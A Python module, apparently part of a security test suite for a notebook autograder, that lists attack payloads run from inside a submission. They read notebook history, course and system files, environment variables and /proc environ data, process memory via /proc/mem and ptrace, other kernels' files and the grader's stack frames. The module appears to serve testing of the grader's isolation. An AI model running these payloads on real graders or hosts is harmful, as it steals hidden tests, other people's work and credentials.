"""Hidden tests, other people's work, and the grader's secrets, read from inside a submission."""

from attacks import FIND, Attack, read

ATTACKS = [
    Attack(one.family, one.name, FIND + one.code, one.answers)
    for one in read(
        "reading",
        r"""
# %% history
loot([In, Out, globals(), get_ipython().history_manager.input_hist_raw])
# answer: numbers
def corrected(*sizes):
    import linecache
    loot([In, Out, globals(), get_ipython().history_manager.input_hist_raw, linecache.cache])
# %% own-files
import os
for folder, _, files in os.walk("."):
    for name in files:
        loot(open(os.path.join(folder, name), "rb").read())
# %% course-by-path
import os
for folder, _, files in os.walk("@COURSE@"):
    for name in files:
        loot(open(os.path.join(folder, name), "rb").read())
# %% all-files
import os, time
end = time.time() + 3
for top in ("/tmp", "/root", "/home", "/var", "/mnt", "/srv", "/etc", "/run", "/dev/shm"):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".ipynb", ".json", ".db", ".txt", ".log", ".html")) and os.path.isfile(path) and time.time() < end:
                try:
                    loot(open(path, "rb").read(1 << 22))
                except OSError:
                    pass
# %% environment
import os, subprocess
loot(os.environ)
loot(subprocess.run("env; cat /proc/self/environ /proc/1/environ", shell=True, capture_output=True).stdout)
# %% processes
import glob
for path in glob.glob("/proc/[0-9]*/*"):
    if path.endswith(("environ", "cmdline", "maps", "comm")):
        try:
            loot(open(path, "rb").read())
        except OSError:
            pass
for path in [path for name in ("fd", "cwd", "root") for path in glob.glob(f"/proc/[0-9]*/{name}/*")]:
    try:
        with open(path, "rb") as file:
            loot(file.read(1 << 16)) if "/fd/" not in path else None
    except OSError:
        pass
# answer: numbers
def memory():
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        if rights.startswith("rw"):
            begin, end = (int(part, 16) for part in span.split("-"))
            if end - begin < 1 << 26:
                try:
                    with open("/proc/self/mem", "rb") as file:
                        file.seek(begin)
                        loot(file.read(end - begin))
                except (OSError, ValueError):
                    pass
def corrected(*sizes):
    memory()
# %% parent-memory
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, *(int(n) for n in os.listdir("/proc") if n.isdigit())}:
    if pid not in (0, os.getpid()):
        libc.ptrace(16, pid, 0, 0)
        try:
            for line in open(f"/proc/{pid}/maps"):
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb") as file:
                    file.seek(begin)
                    loot(file.read(min(end - begin, 1 << 22)))
        except OSError:
            pass
# %% other-kernels
import glob, os, socket
for path in glob.glob(os.path.join(os.sep, "tmp", "shapewise-*", "**"), recursive=True):
    try:
        loot(path)
        loot(open(path, "rb").read())
    except OSError:
        pass
# %% frames-while-tested
# answer: dense
import sys, inspect
def dense(x, kernel, bias):
    frame = sys._getframe()
    while frame:
        loot(frame.f_locals)
        try:
            loot(inspect.getsource(frame))
        except Exception:
            pass
        frame = frame.f_back
    return x
""",
    )
]
